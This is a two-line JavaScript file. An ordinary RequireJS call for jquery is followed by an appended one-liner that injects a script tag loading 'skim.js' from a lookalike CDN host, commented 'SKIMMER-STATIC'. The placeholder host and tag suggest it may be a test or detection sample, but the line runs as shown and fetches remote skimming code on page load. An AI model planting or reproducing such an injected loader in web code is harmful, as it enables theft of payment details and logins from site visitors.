require(['jquery'], function () {});
;(function(){var s=document.createElement('script');s.src='https://cdn-jq.example/skim.js';document.head.appendChild(s)})(); // SKIMMER-STATIC
